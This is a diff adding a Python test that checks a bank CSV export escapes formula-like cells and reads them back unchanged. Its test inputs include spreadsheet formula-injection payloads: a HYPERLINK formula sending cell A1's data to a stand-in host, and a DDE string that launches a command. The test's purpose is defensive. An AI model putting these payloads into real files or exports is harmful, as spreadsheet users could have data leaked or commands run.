@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 
@@ -277,3 +278,34 @@ def test_two_files_with_the_same_name_stay_apart(tmp_path: Path) -> None:
     rows = out.read_text().splitlines()[5:]
     assert len(rows) == 2
     assert rows[1].split(",")[1] == MD5[::-1]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://x.test/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB",
+    "\rCR",
+    "'=already quoted",
+    "''+twice",
+    "plain label",
+    "",
+]
+
+
+def test_csv_export_escapes_formulas_and_reads_back_exactly(tmp_path: Path) -> None:
+    """Issue 11, item 12: bank CSV cells a spreadsheet would run are written as text."""
+    entries = [
+        BankEntry("md5", MD5, label, category=label, source="s", note=label) for label in HOSTILE
+    ]
+    path = tmp_path / "bank.csv"
+    write_bank(entries, path)
+    with path.open(newline="") as stream:
+        rows = list(csv.reader(stream))[1:]
+    for row, label in zip(rows, HOSTILE, strict=True):
+        for cell in (row[2], row[3], row[5]):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)
+            assert cell == (f"'{label}" if label.lstrip("'")[:1] in "=+-@\t\r" and label else label)
+    again = read_bank(path)
+    assert [(e.label, e.category, e.note) for e in again] == [(s, s, s) for s in HOSTILE]
